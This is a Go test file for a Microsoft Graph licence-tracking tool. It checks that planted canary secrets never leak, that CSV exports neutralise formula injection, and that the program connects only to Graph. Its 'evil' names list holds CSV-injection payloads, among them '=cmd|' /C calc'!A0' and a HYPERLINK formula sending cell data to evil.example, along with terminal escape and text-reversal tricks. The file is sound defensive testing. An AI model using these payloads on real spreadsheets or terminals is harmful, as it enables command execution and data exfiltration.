package faults

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"lictrail/graph/graphtest"
)

// TestP3_Secrets puts canaries into every secret, lets sign-in and requests
// fail in many ways, and looks for them in all that is printed and left behind.
func TestP3_Secrets(t *testing.T) {
	onlyHeavy(t)
	const canary = "CANARY-b1946ac92492d2347c6235b4d2611184"
	w := &world{tenant: firstWeek()}
	w.serve(t, graphtest.WithToken(canary))
	pem := filepath.Join(t.TempDir(), "cert.pem")
	if err := os.WriteFile(pem, []byte("-----BEGIN PRIVATE KEY-----\n"+canary+"\n-----END PRIVATE KEY-----\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	sign := []string{"AZURE_TENANT_ID=72f988bf-86f1-41af-91ab-2d7cd011db47", "AZURE_CLIENT_ID=72f988bf-86f1-41af-91ab-2d7cd011db48"}
	elsewhere := []string{"--graph-endpoint", "https://127.0.0.1:9", "--authority-host", "https://127.0.0.1:9", "--patience", "1s"}
	hits, runs := 0, 0
	for _, c := range []struct {
		name  string
		code  int // -1: any but success
		fault graphtest.FaultKind
		args  []string // beside those of a run with a token
		env   []string
	}{
		{"bearer token", 0, "", nil, []string{"LICTRAIL_ACCESS_TOKEN=" + canary}},
		{"bearer token, refused", 4, graphtest.Fault401, nil, []string{"LICTRAIL_ACCESS_TOKEN=" + canary}},
		{"bearer token, forbidden", 4, graphtest.Fault403, nil, []string{"LICTRAIL_ACCESS_TOKEN=" + canary}},
		{"bearer token, web page", -1, graphtest.FaultHTML, nil, []string{"LICTRAIL_ACCESS_TOKEN=" + canary}},
		{"bearer token, redirected", -1, graphtest.FaultRedirectOtherHost, nil, []string{"LICTRAIL_ACCESS_TOKEN=" + canary}},
		{"bearer token of another", 4, "", nil, []string{"LICTRAIL_ACCESS_TOKEN=" + canary + "x"}},
		{"bearer token with a line break", -1, "", nil, []string{"LICTRAIL_ACCESS_TOKEN=" + canary + "\r\nX: " + canary}},
		{"bearer token, out of reach", 5, "", elsewhere, []string{"LICTRAIL_ACCESS_TOKEN=" + canary}},
		{"client secret", -1, "", append([]string{"--auth", "default"}, elsewhere...), append([]string{"AZURE_CLIENT_SECRET=" + canary}, sign...)},
		{"certificate", -1, "", append([]string{"--auth", "default"}, elsewhere...), append([]string{"AZURE_CLIENT_CERTIFICATE_PATH=" + pem, "AZURE_CLIENT_CERTIFICATE_PASSWORD=" + canary}, sign...)},
		{"password of a proxy", 5, "", []string{"--graph-endpoint", "https://graph.invalid", "--patience", "1s"},
			[]string{"LICTRAIL_ACCESS_TOKEN=x", "HTTPS_PROXY=http://user:" + canary + "@127.0.0.1:9"}},
		{"addresses of webhooks, out of reach", 0, "", []string{"--notify", "webhook,teams,slack"}, []string{"LICTRAIL_ACCESS_TOKEN=" + canary, "LICTRAIL_WEBHOOK_URL=https://user:" + canary + "@127.0.0.1:9/" + canary,
			"LICTRAIL_TEAMS_URL=https://127.0.0.1:9/x?sig=" + canary, "LICTRAIL_SLACK_URL=http://127.0.0.1:9/" + canary}},
		{"address of a webhook, refused", 2, "", []string{"--notify", "webhook"}, []string{"LICTRAIL_WEBHOOK_URL=http://hooks.invalid/" + canary}},
		{"password of a mail server", 0, "", []string{"--notify", "mail"}, []string{"LICTRAIL_ACCESS_TOKEN=" + canary, "LICTRAIL_SMTP_HOST=127.0.0.1", "LICTRAIL_SMTP_PORT=9", "LICTRAIL_SMTP_USER=u",
			"LICTRAIL_SMTP_PASSWORD=" + canary, "LICTRAIL_SMTP_FROM=a@contoso.example", "LICTRAIL_SMTP_TO=b@contoso.example"}},
		{"password in the endpoint", 2, "", []string{"--graph-endpoint", "https://user:" + canary + "@127.0.0.1:9"}, nil},
	} {
		dir := t.TempDir()
		if c.fault != "" {
			w.server.Inject(graphtest.Fault{Kind: c.fault, Times: graphtest.Forever})
		}
		cmd := program(t.Context(), dir, nil, w.syncArgs(dir, append([]string{"--verbose", "--patience", "2s"}, c.args...)...)...)
		cmd.Env = append(cmd.Env, c.env...)
		r := finish(cmd)
		t.Logf("%s: exit code %d", c.name, r.code)
		w.server.ClearFaults()
		if runs++; c.code >= 0 && r.code != c.code || c.code < 0 && r.code <= 0 {
			t.Errorf("%s: %v, want exit code %d", c.name, r, c.code)
		}
		places := map[string]string{"stdout": r.stdout, "stderr": r.stderr}
		entries, err := os.ReadDir(dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range entries {
			data, err := os.ReadFile(filepath.Join(dir, e.Name()))
			if err == nil {
				places[e.Name()] = string(data)
			}
		}
		for place, text := range places {
			if strings.Contains(text, canary) {
				hits++
				t.Errorf("%s: the secret is in %s: %.500q", c.name, place, text)
			}
		}
	}
	publish(t, "P3", "canaries as bearer token, client secret, certificate and passwords, with failures, at --verbose", "0 hits in output and files",
		"%d runs: %d hits", runs, hits)
}

// evil are names as nobody should have: the corpus of OWASP for CSV, controls
// of terminals, marks that turn text around.
var evil = []string{
	`=1+1`, `=HYPERLINK("http://evil.example?x="&A1,"click")`, `+1+1`, `-1+1`, `@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1",
	`=cmd|' /C calc'!A0`, `;=1+1`, `",=1+1`, `＝1+1`, `'=1+1`, " =1+1", "a\x1b[31mred", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
	"\x1b]52;c;Y2FsYw==\x07", "back\b\b\b\b", "over\rwritten", "\u202egpj.exe", "\u2066iso\u2069", "c1\u009b31m", "nul\x00byte", "line\u2028sep", "tab\there",
}

// evilWorld is a tenant of such names, in its second week.
func evilWorld(t *testing.T) (w *world, dir string) {
	t.Helper()
	w = &world{tenant: graphtest.New(3)}
	w.serve(t)
	admin, dir := w.tenant.Admins[0], t.TempDir()
	var ids []string
	for i, name := range evil {
		id := w.tenant.AddUser(admin, graphtest.UserSpec{Name: name, Department: evil[(i+1)%len(evil)]})
		ids = append(ids, id)
		group := w.tenant.CreateGroup(admin, name, "")
		if err := w.tenant.SetGroupLicense(admin, group, e3); err != nil {
			t.Fatal(err)
		}
		if err := w.tenant.AddMember(admin, group, id); err != nil {
			t.Fatal(err)
		}
	}
	w.sync(t, dir)
	w.tenant.Advance(3 * day)
	for i, id := range ids {
		if err := w.tenant.AssignDirect(admin, id, ems); err != nil {
			t.Fatal(err)
		}
		if i%7 == 0 {
			if err := w.tenant.DeleteUser(admin, id, graphtest.Entra); err != nil {
				t.Fatal(err)
			}
		}
	}
	w.tenant.Advance(4 * day)
	w.sync(t, dir)
	return w, dir
}

const (
	e3  = "05e9a617-0261-4cee-bb44-138d3ef5d965"
	ems = "efccb6f7-5641-4e0e-bd10-b4976e1bf68e"
)

// TestP6_CSV reads every CSV that the program writes of a tenant of evil names.
func TestP6_CSV(t *testing.T) {
	w, dir := evilWorld(t)
	cells, formulas, evilCells := 0, 0, 0
	for _, q := range questions(w.tenant.UserIDs()[3]) {
		r := command(append(slices.Clone(q), "--db", dbIn(dir), "--format", "csv")...)
		rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
		if r.code != 0 || err != nil || len(rows) < 2 && q[0] != "groups" {
			t.Errorf("%v: %v, %d rows, %v", q, err, len(rows), r)
		}
		for _, row := range rows {
			for _, cell := range row {
				cells++
				if strings.Contains(cell, "1+1") {
					evilCells++
				}
				if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n\x00") {
					formulas++
					t.Errorf("%v: %q begins a formula", q, cell)
				}
			}
		}
	}
	if evilCells == 0 {
		t.Error("no evil name came through: it proves nothing")
	}
	publish(t, "P6", "names that begin formulas, in every CSV of every command", "0 cells that begin a formula", "%d cells, %d of them from evil names: %d", cells, evilCells, formulas)
}

// TestP9_Connections watches every connection that the program makes.
func TestP9_Connections(t *testing.T) {
	onlyHeavy(t)
	needStrace(t)
	w := newWorld(t)
	_, port, _ := strings.Cut(strings.TrimSuffix(strings.TrimPrefix(w.base, "http://"), "/v1.0"), ":")
	home := fmt.Sprintf("sin_port=htons(%s), sin_addr=inet_addr(\"127.0.0.1\")", port)
	log := filepath.Join(t.TempDir(), "strace")
	to, others, commands := 0, 0, 0
	w.scenes()[1].in(t, func(dir string) {
		lines := [][]string{w.syncArgs(dir)}
		for _, q := range questions(w.tenant.UserIDs()[0])[:size(2, 16)] {
			lines = append(lines, append(slices.Clone(q), "--db", dbIn(dir)))
		}
		for _, args := range lines {
			r := execute(t, dir, []string{"strace", "-f", "--seccomp-bpf", "-qq", "-o", log, "-e", traced("connect", "sendto")}, args...)
			if commands++; r.code != 0 {
				t.Errorf("%v: %v", args, r)
			}
			text, err := os.ReadFile(log)
			if err != nil {
				t.Fatal(err)
			}
			for _, line := range regexp.MustCompile(`(?m)^.*(connect|sendto)\(.*$`).FindAll(text, -1) {
				if to++; !bytes.Contains(line, []byte(home)) || args[0] != "sync" {
					others++
					t.Errorf("%v: %s", args, line)
				}
			}
		}
	})
	if to == 0 {
		t.Error("no connection seen: it proves nothing")
	}
	publish(t, "P9", "connections of a run and of reading commands, by strace", "none but to Graph", "%d commands, %d connections to Graph, %d others", commands, to-others, others)
}
